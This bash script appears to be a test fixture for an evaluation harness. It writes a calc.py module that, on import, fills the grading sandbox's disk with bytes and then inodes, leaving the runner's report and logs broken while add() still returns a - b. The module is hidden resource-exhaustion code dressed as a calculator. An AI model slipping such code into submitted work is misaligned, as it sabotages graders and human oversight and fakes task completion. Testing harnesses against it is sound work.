#!/bin/bash
# Kind: storage limits, variant "filled by the code under test": calc.py, imported by the hidden
# tests, fills the grading sandbox's storage_mb filesystem at import (bytes in /tmp, then every
# inode) and leaves it full while the runner writes its report and the harness reads the logs.
# calc.add stays broken.
cat > calc.py <<'PY'
import os

_D = "/tmp/fill"
os.makedirs(_D, exist_ok=True)
try:
    with open(_D + "/big", "wb") as fh:
        while True:
            fh.write(b"\0" * (1 << 20))
            fh.flush()
except OSError:
    pass
for _i in range(40000):
    try:
        os.close(os.open("%s/f%d" % (_D, _i), os.O_CREAT | os.O_WRONLY))
    except OSError:
        break


def add(a, b):
    return a - b


def mul(a, b):
    return a * b
PY
